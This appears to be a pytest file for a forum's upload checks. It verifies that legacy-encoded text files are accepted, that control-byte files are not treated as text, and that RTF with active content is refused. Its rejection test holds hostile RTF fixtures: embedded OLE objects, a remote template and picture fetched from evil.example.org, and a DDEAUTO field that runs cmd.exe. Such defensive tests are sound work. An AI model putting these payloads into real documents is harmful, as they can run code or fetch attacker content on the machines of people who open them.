"""Texts come as programs have saved them for thirty years, and are read; what runs in them does not come in."""

from __future__ import annotations

import codecs
import io
from collections.abc import Callable

import pytest
from flask import Flask

from forum.kernel import kinds
from tests.attachments.of_files import fetch, kept, reply, sent
from tests.attacks.ward import one_database
from tests.browser import Browser
from tests.extracts import papers
from tests.extracts.of_extracts import brought
from tests.threads.of_threads import begin

Open = Callable[[str | None], Browser]

TEXTS = {
    "utf-8-sig": "Größe und Anzahl der Brunnen",
    "cp1252": "Évaluation des besoins à l’hôpital",
    "cp1251": "Мытье рук спасает жизнь каждый день",
    "cp1256": "غسل اليدين ينقذ الحياة في المستشفى كل يوم",
    "gb18030": "洗手可以挽救生命，每天在医院里都要做",
    "utf-16": "غسل اليدين ينقذ الحياة",
    "utf-16-be": "Мытье рук спасает жизнь",
}


def _written(letters: str, ending: str = "\r\n") -> bytes:
    mark = codecs.BOM_UTF16_BE if letters == "utf-16-be" else b""
    return mark + ((TEXTS[letters] + ending) * 40).encode(letters)


@one_database
@pytest.mark.parametrize("letters", TEXTS)
@pytest.mark.parametrize("name", ["notes.txt", "table.csv"])
def test_a_text_in_older_letters_comes_in_as_it_is_and_its_words_are_read(
    browser: Open, site: Flask, letters: str, name: str
) -> None:
    mira, content = browser("mira"), _written(letters)
    _thread, (key,) = brought(site, mira, (content, name))
    assert fetch(mira, f"/attachments/{key}/{name}").data == content
    page = mira.get(f"/attachments/{key}/text").text
    assert TEXTS[letters].split()[0].replace("’", "&#39;") in page.replace("’", "&#39;")


def test_a_page_that_a_printer_ends_and_the_end_of_dos_are_text() -> None:
    for content in (b"one\x0ctwo\x1a", b"a\tb\r\nc\x0bd", "é".encode("cp437")):
        assert kinds.of(io.BytesIO(content), "a.txt") is kinds.BY_TYPE["text/plain"]


@pytest.mark.parametrize(
    "content",
    [
        b"\x00\x01\x02",
        b"words\x1b[2J",
        b"words\x07",
        b"a" * 70_000 + b"\x00",
        codecs.BOM_UTF16_LE + b"odd",
        codecs.BOM_UTF16_LE + "a\x00b".encode("utf-16-le"),
        codecs.BOM_UTF16_LE + b"\x00\xd8" * 3,
        bytes(range(256)) * 20,
    ],
    ids=["nul", "escape", "bell", "late", "half", "nul in wide letters", "half letters", "all bytes"],
)
def test_what_steers_a_machine_is_no_text(content: bytes) -> None:
    assert kinds.of(io.BytesIO(content), "a.txt") is None


def test_a_letter_at_the_seam_of_two_pieces_is_whole() -> None:
    content = codecs.BOM_UTF16_LE + ("a" * 32_767 + "𝒳" * 3).encode("utf-16-le")
    assert kinds.of(io.BytesIO(content), "a.txt") is kinds.BY_TYPE["text/plain"]


@one_database
def test_rtf_comes_in_under_any_name_and_its_words_are_read(browser: Open, site: Flask) -> None:
    mira = browser("mira")
    _thread, (key,) = brought(site, mira, (papers.rtf("Turbidity is measured at dawn."), "report.doc"))
    (file,) = kept(site)
    assert (file.type, file.name) == ("application/rtf", "report.doc.rtf")
    answer = fetch(mira, f"/attachments/{key}/report.rtf")
    assert answer.headers["Content-Disposition"].startswith("attachment; ")
    assert "Turbidity is measured at dawn." in mira.get(f"/attachments/{key}/text").text


@one_database
@pytest.mark.parametrize(
    "within",
    [
        rb"{\object\objemb\objw100{\*\objdata 0105000002}}",
        rb"{\OBJDATA 0105}",
        rb"{\*\template http://evil.example.org/x.dotm}",
        rb'{\field{\*\fldinst DDEAUTO c:\\windows\\system32\\cmd.exe "/k calc"}}',
        rb'{\field{\*\fldinst{INCLUDEPICTURE "http://evil.example.org/x" \\d}}}',
        b" " * 65_500 + rb"{\object\objocx}",
    ],
    ids=["object", "upper case", "template", "dde", "picture from elsewhere", "far down"],
)
def test_rtf_with_something_that_runs_is_refused(browser: Open, site: Flask, within: bytes) -> None:
    mira = browser("mira")
    answer = reply(mira, begin(mira), sent(rb"{\rtf1\ansi words " + within + b"}", "report.rtf"))
    assert answer.status_code == 422
    assert "report.rtf is of no kind that is taken" in answer.text
    assert not kept(site)


def test_words_about_dde_are_words() -> None:
    content = rb"{\rtf1\ansi DDE is what becomes of DDT; see the object of the template.}"
    assert kinds.of(io.BytesIO(content), "a.rtf") is kinds.RTF
